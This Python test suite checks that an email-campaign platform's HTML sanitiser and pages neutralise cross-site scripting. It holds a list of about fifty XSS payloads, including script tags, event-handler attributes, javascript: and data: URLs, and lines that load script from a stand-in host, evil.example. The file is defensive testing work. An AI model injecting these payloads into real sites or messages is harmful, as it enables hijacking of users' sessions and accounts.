"""Cross-site scripting: classic payloads in campaign HTML come out of the sanitiser with nothing
executable left, and the same payloads stored in every field a user or a stranger controls (list
names, subscriber data, company identity, campaign subjects, feedback comments, abuse reports,
webhook responses, DNS records, import files) are escaped on every page that shows them: the
sender's, the moderators' and the recipients'.
"""

import re
from datetime import timedelta
from html import unescape
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape
from playwright.sync_api import expect

from accounts.models import ApiToken, Notification, WebhookDelivery, WebhookEndpoint
from campaigns.html import ALLOWED_TAGS, sanitise_html
from campaigns.models import Delivery, DeliveryStatus
from campaigns.rendering import CampaignContent, Recipient, compile_campaign
from campaigns.tokens import MessageTokens
from complaints.models import AbuseReport, FeedbackEvent, FeedbackKind, FeedbackSource
from lists.models import ConsentEvent, ConsentRecord, ImportJob, ImportRowIssue, Suppression
from lists.services.optin import subscription_confirm_token
from moderation.enforcement.decisions import account_warn
from tests.browser.conftest import log_in
from tests.campaigns.factories import CampaignFactory
from tests.factories import SenderDomainFactory, UserFactory
from tests.lists.factories import MailingListFactory, SubscriberFactory
from tests.security.conftest import FUZZ

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>p { background: url(javascript:alert(1)) }</style><p>x</p>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit><button formaction=javascript:alert(1)>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

# What may carry a URL, and what in one would run.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "data",
                  "xlink:href", "lowsrc", "dynsrc", "cite", "longdesc", "codebase", "values", "to",
                  "from"}  # fmt: skip
_SCHEME_JUNK = re.compile(r"[\x00-\x20\x7f]+")
_RUNNING_CSS = re.compile(
    r"expression\s*\(|javascript:|vbscript:|behaviou?r\s*:|-moz-binding|@import"
    r"|url\(\s*['\"]?\s*data:",
    re.IGNORECASE,
)
_SAFE_IMAGE_DATA = re.compile(r"data:image/(png|gif|jpe?g|webp);", re.IGNORECASE)


class _Inspector(HTMLParser):
    """Everything in a page that a browser would run: scripts that are not our own static files,
    event handler attributes, script URLs, styles that execute, frames that allow scripts."""

    def __init__(self, allowed_tags: frozenset[str] | None):
        super().__init__(convert_charrefs=True)
        self.allowed_tags = allowed_tags
        self.problems: list[str] = []
        self.frames: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag, attrs):
        self._inspect(tag, attrs)
        if tag in ("script", "style"):
            self._raw = tag

    def handle_startendtag(self, tag, attrs):
        self._inspect(tag, attrs)

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw == "script" and data.strip():
            self.problems.append(f"inline script: {data[:60]!r}")
        if self._raw == "style" and _RUNNING_CSS.search(data):
            self.problems.append(f"style element runs code: {data[:60]!r}")

    def _inspect(self, tag, attrs):
        found = dict(attrs)
        if self.allowed_tags is not None and tag not in self.allowed_tags:
            self.problems.append(f"<{tag}> is not an allowed tag")
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.problems.append(f"script from {found.get('src')!r}")
        if tag in ("object", "embed", "applet", "frame", "frameset", "base"):
            self.problems.append(f"<{tag}>")
        if tag == "iframe":
            sandbox = found.get("sandbox")
            if sandbox is None or "allow-scripts" in sandbox or found.get("src"):
                self.problems.append("an iframe that may run scripts")
            self.frames.append(found.get("srcdoc") or "")
        if tag == "meta" and "javascript" in (found.get("content") or "").lower():
            self.problems.append("meta refresh to a script")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            bare = _SCHEME_JUNK.sub("", value).lower()
            if bare.startswith(("javascript:", "vbscript:", "livescript:")):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            image = tag == "img" and name == "src" and _SAFE_IMAGE_DATA.match(bare)
            if name in URL_ATTRIBUTES and bare.startswith("data:") and not image:
                self.problems.append(f"<{tag} {name}={value[:40]!r}> data URL")
            if name == "style" and _RUNNING_CSS.search(value):
                self.problems.append(f"<{tag} style={value[:60]!r}>")


def executable_content(html: str, *, allowed_tags: frozenset[str] | None = None) -> list[str]:
    """What in `html` (and in the documents of its sandboxed frames) a browser would execute."""
    inspector = _Inspector(allowed_tags)
    inspector.feed(html)
    inspector.close()
    problems = list(inspector.problems)
    for frame in inspector.frames:
        problems += [f"in a frame: {problem}" for problem in executable_content(frame)]
    return problems


def test_the_inspector_finds_what_it_looks_for():
    """The checks below prove something only if this one can fail."""
    for payload in (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="x"></object>',
        '<div style="width: expression(alert(1))">x</div>',
        '<div style="background:url(javascript:alert(1))">x</div>',
        "<style>@import 'javascript:alert(1)';</style>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<form action="javascript:alert(1)">',
    ):
        assert executable_content(payload), payload
    assert executable_content("<form>", allowed_tags=ALLOWED_TAGS) == [
        "<form> is not an allowed tag"
    ]
    assert executable_content('<iframe sandbox="" srcdoc="&lt;img src=x onerror=alert(1)&gt;">')
    assert not executable_content('<p><a href="https://ok.example/">ok</a></p>')
    assert not executable_content('<script src="/static/js/campaign-editor.js" defer></script>')


# --- the sanitiser -----------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_leaves_nothing_executable(payload):
    cleaned = sanitise_html(f"<p>before</p>{payload}<p>after</p>")

    assert executable_content(cleaned, allowed_tags=ALLOWED_TAGS) == []
    assert "before" in cleaned


@FUZZ
@given(
    parts=st.lists(
        st.one_of(
            st.sampled_from(PAYLOADS),
            st.sampled_from(
                [
                    "<",
                    ">",
                    '"',
                    "'",
                    "=",
                    "&#",
                    "/",
                    "<a href=",
                    "<img ",
                    " on",
                    "javascript:",
                    "<svg",
                    "<!--",
                    "-->",
                    "<![CDATA[",
                    "]]>",
                    "<style>",
                    "</p>",
                    "<table>",
                    "<td>",
                    "&",
                ]
            ),  # fmt: skip
            st.text(max_size=10),
        ),
        max_size=12,
    )
)
def test_the_sanitiser_leaves_nothing_executable_in_any_mixture(parts):
    cleaned = sanitise_html("".join(parts))
    assert executable_content(cleaned, allowed_tags=ALLOWED_TAGS) == []


def _content(html_body: str, **changes) -> CampaignContent:
    values = {
        "campaign_id": 7,
        "account_id": 3,
        "subject": '<script>alert("subject")</script>',
        "from_name": "Acme",
        "from_email": "news@news.acme.example",
        "reply_to": "",
        "html_body": html_body,
        "text_body": "",
        "company_name": '<img src=x onerror=alert("company")>',
        "postal_address": '"><script>alert("address")</script>',
        **changes,
    }
    return CampaignContent(**values)


def _recipient(**changes) -> Recipient:
    values = {
        "subscriber_id": 11,
        "email": "ann@example.org",
        "name": "<script>alert('name')</script>",
        "phone": "",
        "attributes": {"city": '"><svg onload=alert(1)>'},
        "list_id": 5,
        "list_name": "<img src=x onerror=alert('list')>",
        "consent_source": "web_form",
        "consented_at": None,
    }
    return Recipient(**{**values, **changes})


def test_the_whole_message_is_inert_whatever_the_campaign_and_the_recipient_hold():
    """Every payload in the body, hostile merge values, company identity, list name and subject:
    the rendered HTML part holds nothing executable."""
    body = "".join(
        f"<p>{{{{ subscriber.name }}}} {{{{ subscriber.attributes.city }}}}</p>{payload}"
        for payload in PAYLOADS
    )
    message = compile_campaign(_content(body)).render(_recipient(), is_test=True)

    wrapper = {"html", "head", "meta", "title", "body", "div", "table", "tr", "td", "p", "a", "img"}
    assert executable_content(message.html, allowed_tags=ALLOWED_TAGS | wrapper) == []
    assert str(escape("<script>alert('name')</script>")) in message.html


# --- the pages: payloads stored in everything a user or a stranger controls -----------------------

# Short enough for every field it is stored in (the shortest holds 40 characters).
P = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
SHORT = '"><svg onload=alert(1)>'
DOMAIN = "news.acme.example"


@pytest.fixture
def world(user):
    """One account whose every visible field holds a payload, with a list, subscribers, a
    campaign in moderation, feedback, an abuse report, an import, tokens and webhooks."""
    account = user.account
    account.company_name = f"Acme {P}"
    account.contact_name = P
    account.postal_address = f"1 Main St {P}\n{P}"
    account.phone = SHORT
    account.save()
    domain = SenderDomainFactory(account=account, domain=DOMAIN, verified_at=timezone.now())
    domain.findings = {
        check: {"status": P[:20], "messages": [P], "records": [f"v=spf1 {P}"]}
        for check in ("verification", "spf", "dkim", "dmarc")
    }
    domain.save()
    mailing_list = MailingListFactory(
        account=account, name=f"News {P}", purpose=f"Letters {P}\n{P}", form_intro=P,
        form_thank_you=P,
    )  # fmt: skip
    ann = SubscriberFactory(
        mailing_list=mailing_list,
        email="ann@example.org",
        name=f"Ann {P}",
        phone=SHORT,
        attributes={"city": P, "note": P},
    )
    ConsentRecord.objects.create(
        subscriber=ann,
        event=ConsentEvent.GRANTED,
        source="paper_form",
        obtained_at=timezone.now(),
        user_agent=P,
        purpose_text=P,
        proof=f"{P}\n{P}",
        form_url=f"javascript:alert(1)//{P}",
    )
    unconfirmed = SubscriberFactory(
        mailing_list=mailing_list, email="una@example.org", name=P, status="unconfirmed"
    )
    campaign = CampaignFactory(
        account=account,
        lists=[mailing_list],
        name=f"Autumn {P}",
        subject=f"Hi {P}",
        from_name=f"Acme {SHORT}",
        from_email=f"news@{DOMAIN}",
        html_body="".join(f"<p>{{{{ subscriber.name }}}}</p>{payload}" for payload in PAYLOADS),
        status="submitted",
        submitted_at=timezone.now(),
    )
    draft = CampaignFactory(
        account=account,
        lists=[mailing_list],
        name=f"Draft {P}",
        subject=f"Hi {P}",
        from_name=f"Acme {SHORT}",
        from_email=f"news@{DOMAIN}",
        html_body=campaign.html_body,
    )
    delivery = Delivery.objects.create(
        campaign=campaign,
        subscriber=ann,
        provider="other",
        status=DeliveryStatus.SENT,
        sent_at=timezone.now() - timedelta(hours=1),
    )
    for kind in (FeedbackKind.UNSUBSCRIBED, FeedbackKind.COMPLAINED, FeedbackKind.HARD_BOUNCE):
        FeedbackEvent.objects.create(
            source=FeedbackSource.REPORT_PAGE,
            event_id=f"{kind}-{P[:20]}",
            kind=kind,
            account=account,
            campaign=campaign,
            delivery=delivery,
            recipient=f"ann@example.org{SHORT}"[:254],
            code=SHORT[:64],
            detail=P,
            comment=P,
        )
    Suppression.objects.create(account=account, email_hash="0" * 64, email=P, reason="complained")
    AbuseReport.objects.create(
        reporter_email="reporter@example.net",
        message_text=f"Subject: {P}\n\n{P}",
        comment=P,
        user_agent=P,
        account=account,
        campaign=campaign,
    )
    job = ImportJob.objects.create(
        account=account,
        mailing_list=mailing_list,
        created_by=user,
        original_filename=f"{SHORT}.csv",
        consent_source="paper_form",
        proof=P,
        status="failed",
        failure_reason=P,
        finished_at=timezone.now(),
    )
    ImportRowIssue.objects.create(import_job=job, row=2, email=P, reason=P, skipped=True)
    ApiToken.objects.create(
        account=account, user=user, name=P, prefix="abcd1234", key_digest="f" * 64
    )
    endpoint = WebhookEndpoint.objects.create(
        account=account, url="https://hooks.example/in", events=["subscriber.subscribed"],
        secret="s" * 32, description=P, disabled_reason=P,
    )  # fmt: skip
    WebhookDelivery.objects.create(
        endpoint=endpoint,
        event="subscriber.subscribed",
        event_id="6f1c2a3e-0000-4000-8000-000000000001",
        payload={"p": P},
        error=P,
        response_excerpt=P,
        status_code=500,
    )
    Notification.objects.create(account=account, subject=P, body=P, link="/lists/")
    moderator = UserFactory(is_staff=True, account=None)
    account_warn(account_id=account.pk, moderator=moderator, reason=f"Warned: {P}")
    tokens = MessageTokens(campaign_id=campaign.pk, subscriber_id=ann.pk)
    return {
        "account": account,
        "list": mailing_list,
        "ann": ann,
        "moderator": moderator,
        "campaign": campaign,
        "draft": draft,
        "job": job,
        "endpoint": endpoint,
        "domain": domain,
        "unsubscribe": tokens.unsubscribe(),
        "report": tokens.report(),
        "confirm": subscription_confirm_token(unconfirmed),
    }


def _assert_escaped(response, status: int = 200, *, shows_data: bool = True) -> None:
    assert response.status_code == status, response.status_code
    page = response.content.decode()
    assert executable_content(page) == []
    # The payload's markup never appears as markup; it may appear escaped, as text.
    assert "<script>alert(1)</script>" not in page
    assert "<img src=x onerror=alert(2)>" not in page
    assert "<svg onload=alert(1)>" not in page
    if shows_data:  # ...and does appear, escaped: the page did show the hostile data
        shown = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;svg onload=alert(1)&gt;")
        assert any(escaped in page for escaped in shown)


SENDER_PAGES = [
    ("lists", lambda w: []),
    ("list_detail", lambda w: [w["list"].pk]),
    ("list_edit", lambda w: [w["list"].pk]),
    ("list_form_builder", lambda w: [w["list"].pk]),
    ("list_welcome", lambda w: [w["list"].pk]),
    ("subscriber_detail", lambda w: [w["list"].pk, w["ann"].pk]),
    ("suppressions", lambda w: []),
    ("import_progress", lambda w: [w["job"].pk]),
    ("campaigns", lambda w: []),
    ("campaign_detail", lambda w: [w["campaign"].pk]),
    ("campaign_edit", lambda w: [w["draft"].pk]),
    ("campaign_detail", lambda w: [w["draft"].pk]),
    ("campaign_create", lambda w: []),
    ("feedback", lambda w: []),
    ("api_tokens", lambda w: []),
    ("webhooks", lambda w: []),
    ("webhook", lambda w: [w["endpoint"].pk]),
    ("sender_domains", lambda w: []),
    ("sender_domain", lambda w: [w["domain"].pk]),
    ("notifications", lambda w: []),
    ("profile", lambda w: []),
    ("dashboard", lambda w: []),
]


@pytest.mark.parametrize(("name", "args"), SENDER_PAGES, ids=[name for name, _ in SENDER_PAGES])
def test_sender_pages_escape_every_payload(client, user, world, name, args):
    client.force_login(user)
    response = client.get(reverse(name, args=args(world)))
    _assert_escaped(response, shows_data=name != "sender_domains")  # only domain names there


@pytest.mark.parametrize("tab", ["unsubscribes", "complaints", "bounces", "abuse"])
def test_every_feedback_tab_escapes_every_payload(client, user, world, tab):
    client.force_login(user)
    _assert_escaped(client.get(reverse("feedback"), {"tab": tab}))


def test_the_import_mapping_step_escapes_the_files_header_and_rows(client, user, world):
    client.force_login(user)
    content = f'email,"{P}"\nann@example.org,"{P}"\n'.encode()
    response = client.post(
        reverse("import_upload", args=[world["list"].pk]),
        {
            "file": SimpleUploadedFile(f"{SHORT}.csv", content),
            "consent_source": "paper_form",
            "proof": P,
            "consent_obtained_at": "2026-02-01",
        },
    )
    assert response.status_code == 302
    _assert_escaped(client.get(response["Location"]))


MODERATOR_PAGES = [
    ("moderation_queue", lambda w: []),
    ("moderation_review", lambda w: [w["campaign"].pk]),
    ("moderation_accounts", lambda w: []),
    ("moderation_account", lambda w: [w["account"].pk]),
    ("moderation_abuse", lambda w: []),
    ("moderation_audit", lambda w: []),
]


@pytest.mark.parametrize(
    ("name", "args"), MODERATOR_PAGES, ids=[name for name, _ in MODERATOR_PAGES]
)
def test_moderator_pages_escape_every_payload(client, world, name, args):
    client.force_login(world["moderator"])
    _assert_escaped(client.get(reverse(name, args=args(world))))


def test_the_moderators_preview_of_the_message_is_sandboxed_and_inert(client, world):
    client.force_login(world["moderator"])
    page = client.get(reverse("moderation_review", args=[world["campaign"].pk]))

    frame = re.search(r'<iframe id="preview-html"[^>]*srcdoc="([^"]*)"', page.content.decode())
    assert frame, "the review page shows the message in its sandboxed frame"
    assert 'sandbox=""' in frame.group(0)
    message = unescape(frame.group(1))
    assert "<p>" in message  # the frame holds the message, not an empty document
    assert executable_content(message) == []


RECIPIENT_PAGES = [
    ("unsubscribe", lambda w: [w["unsubscribe"]]),
    ("report_spam", lambda w: [w["report"]]),
    ("subscribe", lambda w: [w["list"].public_id]),
    ("subscribe_confirm", lambda w: [w["confirm"]]),
    ("abuse", lambda w: []),
]


@pytest.mark.parametrize(
    ("name", "args"), RECIPIENT_PAGES, ids=[name for name, _ in RECIPIENT_PAGES]
)
def test_recipient_pages_escape_every_payload(client, world, name, args):
    response = client.get(reverse(name, args=args(world)))
    _assert_escaped(response, shows_data=name != "abuse")  # the abuse form shows no one's data


def test_forms_sent_back_with_errors_escape_what_was_typed(client, world):
    subscribe = client.post(
        reverse("subscribe", args=[world["list"].public_id]), {"email": P, "name": P}
    )
    _assert_escaped(subscribe, status=400)
    abuse = client.post(reverse("abuse"), {"reporter_email": P, "message_text": P, "comment": P})
    _assert_escaped(abuse, status=400)


def test_a_script_url_is_refused_as_the_companys_website(client, user):
    """The website is a link on every recipient page: only a web address may be saved."""
    client.force_login(user)
    account = user.account
    response = client.post(
        reverse("profile"),
        {
            "company_name": account.company_name,
            "contact_name": account.contact_name,
            "phone": account.phone,
            "postal_address": account.postal_address,
            "website": "javascript:alert(document.domain)",
        },
    )
    account.refresh_from_db()
    assert account.website == ""
    assert response.status_code == 200
    assert response.context["form"].errors["website"]


# --- a real browser ----------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_no_payload_runs_in_chromium_on_the_review_preview_and_recipient_pages(
    page, site, world, user
):
    """Headless Chromium opens the pages that show the payloads, the campaign's message in its
    frames included, and the editor's live preview redraws it: no alert() ever fires."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # Nothing leaves the machine: the payloads' outside addresses fail at once.
    page.route(
        "**/*",
        lambda route: (
            route.continue_()
            if route.request.url.startswith((site.url, "about:", "data:"))
            else route.abort()
        ),
    )

    log_in(page, site, world["moderator"], landing="/moderation/")
    page.goto(site.url + reverse("moderation_review", args=[world["campaign"].pk]))
    expect(page.locator("#preview-html")).to_be_attached()
    page.wait_for_load_state("networkidle")
    page.context.clear_cookies()

    for url in (
        reverse("unsubscribe", args=[world["unsubscribe"]]),
        reverse("report_spam", args=[world["report"]]),
        reverse("subscribe", args=[world["list"].public_id]),
        reverse("subscribe_confirm", args=[world["confirm"]]),
    ):
        page.goto(site.url + url)
        page.wait_for_load_state("networkidle")

    log_in(page, site, user)
    page.goto(site.url + reverse("campaign_edit", args=[world["draft"].pk]))
    body = page.locator("#id_html_body")
    body.fill("<p>One more line</p>" + body.input_value())  # first: payloads eat what follows
    expect(page.locator("#preview-state")).to_have_text("Up to date")
    assert "One more line" in page.locator("#preview-html").get_attribute("srcdoc")
    expect(page.frame_locator("#preview-html").get_by_text("One more line")).to_be_visible()

    assert dialogs == []
    page.evaluate("alert('the listener works')")
    assert dialogs == ["the listener works"]
